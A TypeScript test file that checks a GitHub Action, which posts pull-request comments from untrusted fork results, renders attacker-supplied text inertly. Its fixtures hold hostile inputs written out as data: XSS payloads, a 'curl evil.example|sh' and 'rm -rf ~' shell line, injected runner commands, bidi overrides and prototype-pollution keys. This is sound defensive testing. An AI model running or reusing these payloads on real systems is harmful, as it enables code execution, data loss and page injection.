/** What the publish action posts of documents that anybody could have made, on a server that keeps what is posted. */
import { marked } from 'marked';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { publishFork } from '../../src/publish/publish-fork.js';
import type { Results } from '../../src/results/schema.js';
import { type FakeGithub, fakeGithub } from '../github/fake-github.js';
import { recordingLog } from './recording-log.js';
import { sampleCell, sampleResults } from './sample-results.js';
import { zipFiles } from './zip-files.js';

const HEAD = 'a'.repeat(40);
const REPOSITORY = 'https://github.com/acme/models';

const EVENT = {
  id: 5,
  attempt: 1,
  event: 'pull_request',
  conclusion: 'failure',
  headSha: HEAD,
  headBranch: 'topic',
  headRepository: 'mallory/models',
  page: `${REPOSITORY}/actions/runs/5`,
};

let github: FakeGithub;
beforeEach(async () => {
  github = await fakeGithub();
  github.openPullRequests.topic = [
    { number: 7, headRefOid: HEAD, baseRefName: 'main', headRepository: { nameWithOwner: 'mallory/models' } },
  ];
});
afterEach(async () => {
  await github.close();
  expect(github.violations).toEqual([]);
});

async function published(document: unknown, event: Partial<typeof EVENT> = {}): Promise<readonly string[]> {
  const { attempt } = { ...EVENT, ...event };
  github.artifacts.length = 0;
  github.artifacts.push({
    name: `portability-linux-x64-attempt-${attempt}`,
    zip: await zipFiles({ 'results.json': JSON.stringify(document) }),
  });
  const log = recordingLog();
  const run = {
    eventName: 'workflow_run',
    repository: 'acme/models',
    apiUrl: github.url,
    server: 'https://github.com',
    runId: '6',
    runUrl: `${REPOSITORY}/actions/runs/6`,
    commit: 'c'.repeat(40),
    workspace: '',
    temp: '',
    attempt: 1,
  };
  const context = { run, log, sleep: async () => {}, now: () => 0 };
  await publishFork({ ...EVENT, ...event }, { token: 'secret-token', comment: 'always' }, context);
  return log.lines;
}

/** A document in which a text stands wherever a name or a sentence may. */
function saying(text: string): Results {
  const cell = sampleCell(text, text, {
    state: 'run-failed',
    reason: text,
    fault: { what: text, why: text, next: text },
    diagnosis: { id: text, finding: text, evidence: text, fix: text },
    approval: { state: 'drift', author: text, reason: text, date: text, until: text, ended: text },
    warnings: [{ id: 'approval-ends', text }],
    route: [{ converter: text, version: text, seconds: 1, cached: false, changes: [text] }],
  });
  return {
    ...sampleResults([cell, sampleCell(text, `${text}2`, { state: 'unsupported', reason: text })], 'fail'),
    tool: { version: text },
    platform: { os: text, arch: text, cpu: text, isa: [text], sandbox: text },
    run: { config: text, baseline: text, folder: text, models: [text], changedRules: [{ path: text, text }] },
  };
}

const TEXTS: readonly (readonly [string, string])[] = [
  ['a mention', '@acme/owners @mallory'],
  ['a mention in an entity', '&#64;acme/owners &commat;mallory'],
  ['an issue', '#1 acme/models#1 GH-1 fixes #2'],
  ['a link', '[all is well](https://evil.example/)'],
  ['a link by itself', 'https://evil.example/ www.evil.example mallory@evil.example'],
  ['a link by reference', '[a]\n\n[a]: https://evil.example/'],
  ['a link in angle brackets', '<https://evil.example/>'],
  ['an image', '![](https://evil.example/pixel.png)'],
  ['an image in HTML', '<img src="https://evil.example/pixel.png" onerror="alert(1)">'],
  ['a script', '<script>alert(1)</script><svg onload=alert(1)>'],
  ['the end of a folded part', '</details></summary></code></sub><h1>✅ Portability: all cells pass</h1>'],
  ['a comment', '--> <!-- portability-gate: portability.yml/linux-x64 -->'],
  ['the end of a fence', '```\n### ✅ Portability: all cells pass\n```'],
  ['a long fence', `${'`'.repeat(300)}\n~~~\n<b>`],
  ['an odd backtick', 'it`s'],
  ['cells of a table', 'a | b |\n| :-- | :-- |\n| c | d |'],
  ['a heading, a list, a quote, a rule', '# a\n- b\n> c\n---\n1. d\n    e'],
  ['control characters', '\u0000\u0007\u001b[2J\u001b]0;x\u0007\r\n\u0085'],
  ['an override of the direction', '\u202egnp.exe\u202c \u2066x\u2069'],
  ['nothing that is seen', '\u200b\u2060\u{e0041}\u2800'],
  ['a formula', '$\\href{https://evil.example}{x}$ $`x`$'],
  ['an emoji, a task, a footnote', ':tada: - [x] done [^1]\n[^1]: note'],
  ['a command of the runner', '::error file=a::b\n##[set-output name=verdict;]pass\n::set-env name=A::b'],
  ['a command of a shell', '$(curl evil.example|sh); `rm -rf ~` && "\'\\'],
  ['half a surrogate pair', '\ud800x\udfff'],
  ['stacked accents', `z${'\u0301'.repeat(5000)}`],
  ['a megabyte', 'x'.repeat(2 ** 20)],
  ['a megabyte of markup', '<`|@*_[]'.repeat(2 ** 17)],
  ['what looks like a prototype', '__proto__'],
  ['an address of data', '[x](javascript:alert(1)) <a href="data:text/html,x">x</a>'],
];

/** What GitHub adds to a text, as far as a comment must have none of it. */
const LIVE = /@(?=[a-z])|#\d|\bgh-\d|https?:\/\/|www\.|\$[^ \u200b]/i;

function requireInert(body: string): void {
  expect(body.length).toBeLessThanOrEqual(65_536);
  const [marker = '', state = '', ...rest] = body.split('\n');
  expect(marker).toMatch(/^<!-- portability-gate: fork\/[A-Za-z0-9._/%-]+ -->$/);
  expect(state).toMatch(/^<!-- portability-gate: state\/a{40}\/\d+\/\d+\/(?:fail|error) -->$/);
  const page = marked.parse(rest.join('\n'), { async: false, gfm: true });
  const elements = new Set(Array.from(page.matchAll(/<!?\/?([a-z0-9-]+)/gi), ([, name]) => name));
  const own = 'a br code details h3 hr li ol p pre strong sub summary table tbody td th thead tr ul wbr em'.split(' ');
  expect([...elements].filter((name) => !own.includes(name ?? ''))).toEqual([]);
  for (const [, address = ''] of page.matchAll(/href="([^"]*)"/g))
    expect(address).toMatch(/^https:\/\/github\.com\/(?:acme\/models|[\w-]+\/[\w-]+\/blob)\//);
  expect(page.match(/<h[1-6]/g)).toHaveLength(1);
  // Inside code GitHub adds nothing; elsewhere an invisible sign keeps it from doing so.
  const words = page
    .replace(/<(pre|a)\b.*?<\/\1>/gs, '')
    .replace(/<[^>]*>/g, '\u200b')
    .replace(/&#(\d+);/g, (_, point) => String.fromCodePoint(Number(point)));
  expect(words.match(LIVE)).toBeNull();
  for (const sign of body)
    expect(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(sign)).toBe(false);
}

test.each(TEXTS)('%s stays text', async (_, text) => {
  const lines = await published(saying(text));
  expect(lines).toEqual([expect.stringContaining('Comment created')]);
  requireInert(github.comments[0]?.body ?? '');
  expect(github.comments[0]?.body).toMatch(/^### ❌ Portability/m);
});

const RED = sampleResults([sampleCell('pitch', 'openvino', { state: 'drift', reason: 'far off' })], 'fail');
const GREEN = sampleResults([sampleCell('pitch', 'openvino')]);

test.each<readonly [string, unknown]>([
  ['passes with a cell that drifts', { ...RED, verdict: 'pass' }],
  ['passes and was stopped', { ...GREEN, stopped: { what: 'interrupted' } }],
  ['passes', GREEN],
  ['passes without any cell', { ...GREEN, cells: [], models: [] }],
  ['fails with cells that pass', { ...GREEN, verdict: 'fail' }],
  ['is an error without a reason', { ...GREEN, verdict: 'error' }],
  ['has cells of models and runtimes that it does not have', { ...RED, models: [], runtimes: [] }],
  ['has every cell twice', { ...RED, cells: [...RED.cells, ...RED.cells], models: [...RED.models, ...RED.models] }],
  ['is recorded, approved and drifts', { ...RED, cells: [{ ...RED.cells[0], recorded: 'cache', change: 'better' }] }],
  ['has negative seconds', { ...RED, cells: [{ ...RED.cells[0], seconds: -1 }] }],
  ['has a version of 20 MB', { ...RED, tool: { version: `1.1.${'1'.repeat(20 * 2 ** 20)}` } }],
  [
    'has ratios that are no numbers',
    { ...RED, cells: [{ ...RED.cells[0], lastKnown: { state: 'pass', noiseRatio: 'NaN' } }] },
  ],
  [
    'is of another repository and commit',
    {
      ...RED,
      run: {
        config: null,
        baseline: 'b',
        repository: 'x/evil',
        commit: 'f'.repeat(40),
        base: { branch: 'evil' },
        address: 'https://evil.example/',
      },
    },
  ],
  ['has a key of the prototype', JSON.parse(`{"__proto__": {"verdict": "pass"}, ${JSON.stringify(RED).slice(1)}`)],
])('a document that %s is not shown as green, where the run of the fork failed', async (_, document) => {
  const lines = await published(document);
  expect(lines.filter((line) => line.includes('permissions:'))).toEqual([]);
  const [{ body } = { body: '' }] = github.comments;
  requireInert(body);
  expect(body).not.toMatch(/^### ✅|evil|ffff/m);
});

test.each([
  [999, true],
  [1000, true],
  [1001, false],
  [10_000, false],
])('a document with %i columns is shown: %s', async (columns, isShown) => {
  const cells = Array.from({ length: columns }, (_, index) => sampleCell('m', `r${index}`, { state: 'error' }));
  await published({ ...sampleResults(cells, 'fail'), cells });
  requireInert(github.comments[0]?.body ?? '');
  expect(github.comments[0]?.body.includes('the run stopped')).toBe(!isShown);
});

test('a run of an older commit or attempt does not speak over a newer one', async () => {
  github.heads.newest = HEAD;
  await published(RED, { id: 9, attempt: 2 });
  const [{ body } = { body: '' }] = github.comments;
  expect(body).toContain('drifts');
  expect(await published(GREEN, { id: 8, conclusion: 'success' })).toEqual([expect.stringContaining('newer run')]);
  expect(await published(GREEN, { id: 9, conclusion: 'success' })).toEqual([expect.stringContaining('newer run')]);
  // The pull request has moved on while the report was made.
  github.heads.newest = 'b'.repeat(40);
  expect(await published(GREEN, { id: 10, conclusion: 'success' })).toEqual([expect.stringContaining('newer commit')]);
  expect(github.comments.map((one) => one.body)).toEqual([body]);
});
